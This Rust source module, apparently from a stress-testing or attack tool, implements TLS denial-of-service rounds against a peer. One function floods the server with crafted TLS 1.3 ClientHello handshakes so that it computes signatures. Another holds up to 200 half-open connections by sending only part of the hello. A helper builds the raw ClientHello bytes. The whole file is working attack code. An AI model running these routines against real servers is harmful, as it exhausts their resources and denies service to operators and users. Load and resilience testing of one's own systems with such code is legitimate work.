//! Attacks by handshakes of TLS.

use std::io::Write as _;

use super::Round;
use super::peer::{Held, Peer, skim};

/// Has the server do its part, a signature among it, and goes.
pub(super) fn handshakes(peer: Peer) -> Round {
    let hello = client_hello();
    Box::new(move || {
        let mut stream = peer.connect_to_tls()?;
        stream.write_all(&hello)?;
        skim(&mut stream, 4_096)
    })
}

/// Begins many, and does not go on.
pub(super) fn slow_handshakes(peer: Peer) -> Round {
    let hello = client_hello();
    let mut held = Held::new(200);
    Box::new(move || {
        held.sift();
        for _ in 0..10 {
            held.fill(|| {
                let mut stream = peer.connect_to_tls()?;
                stream.write_all(&hello[..20])?;
                Ok(stream)
            })?;
        }
        Ok(())
    })
}

/// What a client of TLS 1.3 says first (RFC 8446, section 4.1.2), with a key that nobody has the other half of.
fn client_hello() -> Vec<u8> {
    let extension =
        |kind: u16, body: &[u8]| [&kind.to_be_bytes()[..], &(body.len() as u16).to_be_bytes(), body].concat();
    let mut key_share = vec![0, 36, 0, 0x1d, 0, 32];
    key_share.extend([9; 32]);
    let extensions = [
        extension(43, &[2, 3, 4]),
        extension(10, &[0, 2, 0, 0x1d]),
        extension(13, &[0, 8, 4, 3, 8, 4, 8, 7, 4, 1]),
        extension(51, &key_share),
    ]
    .concat();
    let mut body = vec![3, 3];
    body.extend([7; 32]);
    // No session, one cipher suite, no compression.
    body.extend([0, 0, 2, 0x13, 1, 1, 0]);
    body.extend((extensions.len() as u16).to_be_bytes());
    body.extend(extensions);
    let mut handshake = vec![1, 0];
    handshake.extend((body.len() as u16).to_be_bytes());
    handshake.extend(body);
    let mut record = vec![22, 3, 1];
    record.extend((handshake.len() as u16).to_be_bytes());
    record.extend(handshake);
    record
}
